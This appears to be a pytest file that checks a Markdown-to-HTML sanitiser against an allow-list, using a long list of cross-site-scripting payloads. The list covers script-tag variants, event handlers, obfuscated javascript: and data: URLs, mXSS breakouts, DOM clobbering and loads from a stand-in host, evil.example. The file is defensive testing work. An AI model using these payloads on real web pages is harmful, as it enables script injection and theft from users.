"""render_markdown is the only HTML a template marks safe: hostile Markdown and raw HTML must
come out inert. Each output is read back with an HTML parser (not only substring checks) and
every tag, attribute and URL in it is held to the allow-list."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest

from coaching.text import render_markdown, render_required_markdown, visible_text

# What the sanitiser may emit, pinned here rather than imported, so that widening the
# allow-list in coaching/text.py has to be done on purpose in this file too.
SAFE_TAGS = {
    *("p", "br", "hr", "strong", "em", "b", "i", "code", "pre", "blockquote"),
    *("ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td"),
    *("h1", "h2", "h3", "h4", "h5", "h6"),
}
HEADINGS = {"h1", "h2", "h3", "h4", "h5", "h6"}
SAFE_ATTRIBUTES = {
    "a": {"href", "title", "rel", "class"},
    "th": {"align"},
    "td": {"align"},
    **{heading: {"id"} for heading in HEADINGS},
}
PERMALINK_CLASS = "heading-permalink"
LINK_REL = "noopener noreferrer nofollow"
SAFE_SCHEMES = {"http", "https", "mailto"}
URL_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
SAFE_ID = re.compile(r"section-[\w-]+(?:_\d+)?")


@dataclass
class ParsedHtml:
    starts: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    ends: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    # Comments, <!DOCTYPE>, <![CDATA[...]]> and <?...>: none should survive.
    markup_declarations: list[str] = field(default_factory=list)

    def tags(self, name: str) -> list[dict[str, str | None]]:
        return [attrs for tag, attrs in self.starts if tag == name]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parsed = ParsedHtml()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), f"repeated attribute on <{tag}>: {names}"
        self.parsed.starts.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.parsed.ends.append(tag)

    def handle_data(self, data: str) -> None:
        self.parsed.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.parsed.markup_declarations.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.parsed.markup_declarations.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.parsed.markup_declarations.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.parsed.markup_declarations.append(f"<?{data}>")


def parse(cleaned: str) -> ParsedHtml:
    collector = _Collector()
    collector.feed(cleaned)
    collector.close()
    return collector.parsed


def url_scheme_as_a_browser_reads_it(url: str) -> str | None:
    """A browser drops leading and trailing spaces and control characters, and tabs and
    newlines anywhere, before it reads the scheme: " java\\tscript:" is javascript:."""
    url = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    scheme = URL_SCHEME.match(url)
    return scheme.group(1).lower() if scheme else None


def assert_safe_url(url: str, cleaned: str) -> None:
    """http, https, mailto, or a link inside the page. A relative URL with no scheme (such
    as "java    script:x", where Markdown turned the tab into spaces) is still let
    through, as it was before headings had ids."""
    scheme = url_scheme_as_a_browser_reads_it(url)
    assert scheme is None or scheme in SAFE_SCHEMES, f"unsafe URL {url!r} in {cleaned}"
    if url.startswith("#"):
        assert url.startswith("#section-"), f"fragment {url!r} in {cleaned}"


def assert_inert(cleaned: str) -> ParsedHtml:
    """Every tag, attribute and URL in cleaned is on the allow-list."""
    parsed = parse(cleaned)
    assert parsed.markup_declarations == [], cleaned
    assert "<script" not in cleaned.lower(), cleaned
    ids = []
    for tag in parsed.ends:
        assert tag in SAFE_TAGS, f"</{tag}> in {cleaned}"
    for tag, attrs in parsed.starts:
        assert tag in SAFE_TAGS, f"<{tag}> in {cleaned}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name} in {cleaned}"
            assert name != "style", cleaned
            assert name in SAFE_ATTRIBUTES.get(tag, set()), f"<{tag} {name}> in {cleaned}"
            assert value is not None, f"bare attribute <{tag} {name}> in {cleaned}"
            if name in ("href", "src"):
                assert_safe_url(value, cleaned)
            if name == "id":
                assert SAFE_ID.fullmatch(value), f"unsafe id {value!r} in {cleaned}"
                ids.append(value)
            if name == "class":
                assert value == PERMALINK_CLASS, f"class {value!r} in {cleaned}"
        if tag == "a":
            assert attrs.get("rel") == LINK_REL, cleaned
    assert len(ids) == len(set(ids)), f"repeated ids {ids} in {cleaned}"
    return parsed


def case(id_: str, text: str):  # a pytest.param
    return pytest.param(text, id=id_)


HOSTILE = [
    # <script>, however it is spelled
    case("script-plain", "<script>alert(1)</script>"),
    case("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    case("script-mixed-case-with-src", '<ScRiPt src="https://evil.example/x.js"></sCrIpT>'),
    case("script-split-by-nested-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    case("script-slash-instead-of-space", '<script/xss src="https://evil.example/x.js"></script>'),
    case("script-unclosed", "Hello <script>alert(1)"),
    case("script-entity-encoded-stays-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    case("script-in-list-item", "- first\n- <script>alert(1)</script>"),
    case("script-in-table-cell", "| a |\n|---|\n| <script>alert(1)</script> |"),
    case("script-in-blockquote", "> <script>alert(1)</script>"),
    case("script-in-inline-code", "Try `<script>alert(1)</script>` now"),
    case("script-in-fenced-code", "```html\n<script>alert(1)</script>\n```"),
    case("script-in-tilde-fence", "~~~\n</code></pre><script>alert(1)</script>\n~~~"),
    # event handler attributes
    case("img-onerror", '<img src=x onerror="alert(1)">'),
    case("body-onload", "<body onload=alert(1)>hi</body>"),
    case("link-onclick", '<a href="https://ok.example" onclick="alert(1)">x</a>'),
    case("paragraph-onmouseover", '<p onmouseover="alert(1)">hover me</p>'),
    case("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    case("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    case("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    case("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    case("heading-onclick-raw", '<h2 onclick="alert(1)">Click</h2>'),
    case(
        "markdown-link-title-breakout",
        '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    ),
    case(
        "markdown-image-title-onerror", '![x](https://ok.example/a.png "\\" onerror=\\"alert(1)")'
    ),
    case("link-text-holds-img-onerror", "[<img src=x onerror=alert(1)>](https://ok.example)"),
    # javascript:, vbscript: and data: URLs
    case("link-javascript", "[x](javascript:alert(1))"),
    case("link-javascript-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    case("link-javascript-leading-spaces", '<a href="   javascript:alert(1)">x</a>'),
    case("link-javascript-leading-control-char", '<a href="\x01javascript:alert(1)">x</a>'),
    case("link-javascript-tab-split", '<a href="java\tscript:alert(1)">x</a>'),
    case("link-javascript-newline-split", '<a href="java\nscript:alert(1)">x</a>'),
    case("link-javascript-entity-tab-split", "[x](java&#x09;script:alert(1))"),
    case("link-javascript-decimal-entities", '<a href="&#106;avas&#99;ript:alert(1)">x</a>'),
    case(
        "link-javascript-all-hex-entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">'
        "x</a>",
    ),
    case("link-javascript-named-entity-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    case("link-javascript-in-angle-brackets", "[x](<javascript:alert(1)>)"),
    case("link-javascript-reference-style", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    case("link-javascript-autolink", "<javascript:alert(1)>"),
    case("link-vbscript", "[x](vbscript:msgbox(1))"),
    case(
        "link-data-html-base64", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
    ),
    case("raw-link-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    case("image-javascript", "![x](javascript:alert(1))"),
    case("image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    # styles
    case("style-attribute-overlay", '<a href="https://ok.example" style="position:fixed">x</a>'),
    case("style-attribute-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    case("style-element", '<style>body { background: url("javascript:alert(1)") }</style>'),
    # embedded documents and foreign content
    case("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    case("iframe-javascript-src", '<iframe src="javascript:alert(1)"></iframe>'),
    case("object-data", '<object data="javascript:alert(1)"></object>'),
    case("embed-src", '<embed src="javascript:alert(1)">'),
    case("svg-onload", "<svg onload=alert(1)>"),
    case("svg-script", "<svg><script>alert(1)</script></svg>"),
    case(
        "svg-animate-href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>click</text></a></svg>",
    ),
    case("math-link", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    case(
        "math-mglyph-style-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    ),
    # forms
    case("form-with-password-input", '<form action="https://evil.example"><input type=password>'),
    case("button-formaction", '<button formaction="javascript:alert(1)">Save</button>'),
    case("input-formaction", "<input type=submit formaction=javascript:alert(1)>"),
    # document-level tags
    case("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    case("base-href", '<base href="https://evil.example/">'),
    case("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    case("img-srcset", '<img srcset="https://evil.example/track.png 1x" src="x">'),
    # link target and rel tampering
    case("link-target-blank", '<a href="https://ok.example" target="_blank">x</a>'),
    case("link-rel-opener", '<a href="https://ok.example" rel="opener">x</a>'),
    case(
        "link-class-spoofs-permalink",
        '<a class="heading-permalink evil" href="https://ok.example">#</a>',
    ),
    case("paragraph-class-spoofs-permalink", '<p class="heading-permalink">x</p>'),
    # comments, CDATA, template, noscript
    case("comment-around-script", "<!-- x --><script>alert(1)</script><!-- y -->"),
    case("comment-early-close", "<!--><img src=x onerror=alert(1)>-->"),
    case("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    case("comment-hiding-link", '<!-- <a href="javascript:alert(1)">x</a> -->'),
    case("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    case("template-script", "<template><script>alert(1)</script></template>"),
    case("noscript-title-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    case("xmp-title-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    case("textarea-title-mxss", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'),
    case("title-element-mxss", "<title><img src=x onerror=alert(1)></title>"),
    # unclosed tags
    case("unclosed-img-tag", "<img src=x onerror=alert(1)"),
    case("unclosed-href-quote", '<a href="javascript:alert(1)>x</a>'),
    case(
        "unclosed-attribute-then-markdown",
        '<p title="x\n\n## Heading\n\n<img src=x onerror=alert(1)>',
    ),
    # DOM clobbering with id and name
    case("raw-link-id-location", '<a id="location" href="https://evil.example">x</a>'),
    case("raw-form-name-forms", "<form name=forms><input name=action></form>"),
    case("raw-img-name-cookie", "<img name=cookie src=x>"),
    case("raw-heading-id-location", '<h2 id="location">Where</h2>'),
    case("raw-heading-id-copies-a-generated-one", '<h2 id="section-plan">Copy</h2>\n\n## Plan'),
    case("raw-paragraph-id", '<p id="section-x">x</p>'),
    # Markdown headings holding HTML: the anchor id stays a safe slug
    case("heading-holds-script", "## <script>alert(1)</script>Plan"),
    case("heading-holds-img-onerror", "## <img src=x onerror=alert(1)> Opening"),
    case("heading-quote-breakout", '## x" onmouseover="alert(1)'),
    case("heading-entity-breakout", "## a&quot; onmouseover=&quot;alert(1)"),
    case("heading-named-location", "# location\n\n# forms"),
    case("heading-javascript-text", "## javascript:alert(1)"),
]


def test_there_are_at_least_45_distinct_hostile_inputs() -> None:
    inputs = [param.values[0] for param in HOSTILE]
    assert len(inputs) >= 45
    assert len(set(inputs)) == len(inputs)
    assert len({param.id for param in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_renders_only_allow_listed_tags_attributes_and_urls(text: str) -> None:
    assert_inert(render_markdown(text))


# What must still work


def test_checker_rejects_what_it_should() -> None:
    """The parser-based check itself notices each kind of unsafe output."""
    unsafe = [
        "<img src=x>",
        '<p onclick="x">a</p>',
        '<p style="color:red">a</p>',
        f'<a href="javascript:alert(1)" rel="{LINK_REL}">a</a>',
        f'<a href="JAVASCRIPT:alert(1)" rel="{LINK_REL}">a</a>',
        f'<a href=" \x01javascript:alert(1)" rel="{LINK_REL}">a</a>',
        f'<a href="java\tscr\nipt:alert(1)" rel="{LINK_REL}">a</a>',
        f'<a href="&#x6A;avascript&colon;alert(1)" rel="{LINK_REL}">a</a>',
        f'<a href="data:text/html,x" rel="{LINK_REL}">a</a>',
        f'<a href="https://ok.example" rel="{LINK_REL}" target="_blank">a</a>',
        '<a href="https://ok.example">no rel</a>',
        '<h2 id="location">a</h2>',
        '<h2 id="section-a">a</h2><h3 id="section-a">b</h3>',
        "<!-- hidden -->",
        "<p>ok</p><SCRIPT>alert(1)</SCRIPT>",
    ]
    for cleaned in unsafe:
        with pytest.raises(AssertionError):
            assert_inert(cleaned)


def test_fenced_code_shows_script_as_escaped_text() -> None:
    cleaned = render_markdown("```html\n<script>alert(1)</script>\n```")
    assert cleaned.startswith("<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;")
    parsed = assert_inert(cleaned)
    assert [tag for tag, _ in parsed.starts] == ["pre", "code"]
    assert "".join(parsed.text).strip() == "<script>alert(1)</script>"


def test_tables_keep_column_alignment() -> None:
    cleaned = render_markdown("| Left | Middle | Right |\n|:--|:-:|--:|\n| a | b | c |\n")
    parsed = assert_inert(cleaned)
    assert [attrs.get("align") for attrs in parsed.tags("th")] == ["left", "center", "right"]
    assert [attrs.get("align") for attrs in parsed.tags("td")] == ["left", "center", "right"]
    assert "<table>" in cleaned and "<thead>" in cleaned and "<tbody>" in cleaned


def test_heading_gets_prefixed_id_and_quiet_permalink() -> None:
    assert render_markdown("## Ask, don't tell") == (
        '<h2 id="section-ask-dont-tell">Ask, don\'t tell '
        '<a class="heading-permalink" href="#section-ask-dont-tell" '
        f'title="Link to this section" rel="{LINK_REL}">#</a></h2>'
    )


def test_duplicate_headings_get_unique_ids() -> None:
    cleaned = render_markdown("## Plan\n\ntext\n\n## Plan\n\n### Plan\n\n## Plan!")
    parsed = assert_inert(cleaned)
    ids = [attrs["id"] for tag, attrs in parsed.starts if tag in HEADINGS]
    assert ids == ["section-plan", "section-plan_1", "section-plan_2", "section-plan_3"]
    links = [attrs["href"] for attrs in parsed.tags("a")]
    assert links == [f"#{id_}" for id_ in ids]


def test_heading_named_after_a_dom_global_is_prefixed() -> None:
    parsed = assert_inert(render_markdown("# location\n\n## forms\n\n### cookie"))
    ids = [attrs["id"] for tag, attrs in parsed.starts if tag in HEADINGS]
    assert ids == ["section-location", "section-forms", "section-cookie"]


def test_heading_holding_html_gets_a_slug_of_its_words() -> None:
    cleaned = render_markdown("## <img src=x onerror=alert(1)>Open <b>strong</b> & close")
    parsed = assert_inert(cleaned)
    assert parsed.tags("h2") == [{"id": "section-open-strong-close"}]
    assert "<b>strong</b>" in cleaned


def test_heading_in_another_script_keeps_its_letters() -> None:
    parsed = assert_inert(render_markdown("## Вопросы клиента\n\n## 質問"))
    assert [attrs["id"] for attrs in parsed.tags("h2")] == [
        "section-вопросы-клиента",
        "section-質問",
    ]


def test_heading_of_only_punctuation_still_gets_a_prefixed_id() -> None:
    parsed = assert_inert(render_markdown("## ???\n\n## !!!"))
    assert [attrs["id"] for attrs in parsed.tags("h2")] == [
        "section-heading",
        "section-heading_1",
    ]


def test_raw_html_cannot_set_or_copy_heading_ids() -> None:
    parsed = assert_inert(render_markdown('## Plan\n\n<h2 id="section-plan">Copy</h2>'))
    assert parsed.tags("h2") == [{"id": "section-plan"}, {}]
    # Written first, the copy still does not take the id the Markdown heading links to.
    parsed = assert_inert(render_markdown('<h2 id="section-plan">Copy</h2>\n\n## Plan'))
    assert parsed.tags("h2") == [{}, {"id": "section-plan"}]
    parsed = assert_inert(render_markdown('<h3 id="location">Where</h3>'))
    assert parsed.tags("h3") == [{}]


def test_toc_marker_is_left_as_text() -> None:
    assert render_markdown("[TOC]\n\n## Plan").startswith("<p>[TOC]</p>")


def test_links_get_noopener_noreferrer_nofollow() -> None:
    cleaned = render_markdown("See [the guide](https://example.com/guide) or <mailto:a@b.example>.")
    parsed = assert_inert(cleaned)
    links = parsed.tags("a")
    assert [link["href"] for link in links][0] == "https://example.com/guide"
    assert all(link["rel"] == LINK_REL for link in links)


def test_plain_text_with_less_than_and_ampersand_is_escaped() -> None:
    cleaned = render_markdown("Margin < 5% & AT&T > 2 is <not a tag")
    assert cleaned == "<p>Margin &lt; 5% &amp; AT&amp;T &gt; 2 is &lt;not a tag</p>"
    assert "".join(assert_inert(cleaned).text) == "Margin < 5% & AT&T > 2 is <not a tag"


def test_permalink_is_not_counted_as_visible_words() -> None:
    assert visible_text(render_markdown("## Plan")) == "Plan"
    errors: dict = {}
    render_required_markdown(
        "# <script>alert(1)</script>", field="body", label="Body", errors=errors
    )
    assert "body" in errors
